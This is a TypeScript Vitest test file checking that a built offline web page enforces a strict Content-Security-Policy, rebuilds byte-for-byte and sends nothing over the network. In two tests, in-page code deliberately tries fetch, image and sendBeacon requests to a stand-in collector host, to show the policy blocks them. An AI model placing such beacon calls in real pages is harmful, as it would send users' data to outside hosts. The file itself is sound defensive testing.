import { createHash } from 'node:crypto'
import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { buildPage } from '../../src/build/page.mjs'
import { policy, predictions } from './cases.ts'
import { launch } from './chromium.ts'
import { openFiles, pageFile, pageFromDisk, untilState, visit } from './visit.ts'

/** What this browser asks its maker on its own account, with any page or none. */
const browsersOwn = /^\w+ (?:http:\/\/)?(?:update|optimizationguide-pa)\.googleapis\.com[:/]|^CONNECT (?:accounts|www|clients2)\.google\.com:/

/** Stands in for the whole network: every address, this machine's too, leads here. */
interface Listener {
  address: string
  heard: string[]
  close: () => void
}

async function listen(): Promise<Listener> {
  const heard: string[] = []
  const server: Server = createServer((socket) => {
    socket.on('error', () => undefined)
    socket.once('data', (bytes) => {
      const request = bytes.toString('latin1').split('\r\n', 1)[0]
      if (!browsersOwn.test(request)) heard.push(request)
      socket.end('HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n')
    })
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('no port')
  return { address: `127.0.0.1:${address.port}`, heard, close: () => server.close() }
}

describe('the built page', () => {
  test('carries its content policy ahead of every script and style', async () => {
    const html = await readFile(pageFile, 'utf8')
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html)
    expect(meta?.[1]).toMatch(/^default-src 'none'; script-src 'sha256-[^']*'; style-src 'sha256-[^']*'; img-src data: blob:; connect-src 'none'; worker-src blob:; base-uri 'none'; form-action 'none'$/)
    expect(meta!.index).toBeLessThan(html.search(/<script|<style|<link/))
  })

  test('is the same bytes when built again', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'page-'))
    const { version } = JSON.parse(await readFile(new URL('../../package.json', import.meta.url), 'utf8'))
    await buildPage({ outDir: folder, version })
    const sha256 = async (path: string) => createHash('sha256').update(await readFile(path)).digest('hex')
    expect(await sha256(join(folder, 'index.html'))).toBe(await sha256(pageFile))
    await rm(folder, { recursive: true })
  })

  test('is complete alone, in an empty folder with a name that needs escaping', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'alone # 100% '))
    await cp(pageFile, join(folder, 'index.html'))
    const browser = await launch()
    const { page, complaints, close } = await visit(browser, pathToFileURL(join(folder, 'index.html')).href)
    await page.click('[data-sample=too_little_data]')
    await untilState(page, 'done')
    expect(complaints).toEqual([])
    await close()
    await browser.close()
    await rm(folder, { recursive: true })
  })
})

describe('with a listener on every address', () => {
  let listener: Listener
  beforeAll(async () => {
    listener = await listen()
  })
  afterAll(() => listener?.close())

  test('nothing is sent in a whole journey, and what a script tries to send is stopped', async () => {
    const browser = await launch(listener.address)
    const { page, close } = await visit(browser)
    await page.click('[data-sample=fails_on_one_segment]')
    await untilState(page, 'done')
    await page.locator('input[type=range]').fill('0.3')
    await openFiles(page, { 'predictions.csv': predictions(), 'policy.yaml': policy })
    await untilState(page, 'done')
    const tried = await page.evaluate(async () => {
      const outcomes: string[] = []
      document.addEventListener('securitypolicyviolation', (event) => outcomes.push(event.effectiveDirective))
      await fetch('http://collector.example/page').catch(() => undefined)
      new Image().src = 'http://collector.example/image'
      navigator.sendBeacon('http://collector.example/beacon', 'x')
      await new Promise((done) => setTimeout(done, 200))
      return outcomes
    })
    expect(tried).toEqual(expect.arrayContaining(['connect-src', 'img-src']))
    expect(listener.heard).toEqual([])
    await close()
    await browser.close()
  })

  test('the listener does hear a page without the policy: its silence means something', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'open-'))
    const html = await readFile(pageFile, 'utf8')
    await writeFile(join(folder, 'index.html'), html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''))
    const browser = await launch(listener.address)
    const { page, close } = await visit(browser, pathToFileURL(join(folder, 'index.html')).href)
    await page.evaluate(() => fetch('http://collector.example/open', { mode: 'no-cors' }).catch(() => undefined))
    await expect.poll(() => listener.heard.some((line) => line.includes('/open'))).toBe(true)
    await close()
    await browser.close()
    await rm(folder, { recursive: true })
  })
})

test('the address asks for an engine, and the page says which one computed', async () => {
  const browser = await launch()
  const { page, complaints, close } = await visit(browser, `${pageFromDisk}?engine=cpu`)
  await page.click('[data-sample=too_little_data]')
  await untilState(page, 'done')
  expect(await page.getAttribute('[data-engine]', 'data-engine')).toBe('cpu')
  expect(await page.getAttribute('[data-engine]', 'title')).not.toBe('')
  expect(complaints).toEqual([])
  await close()
  await browser.close()
})
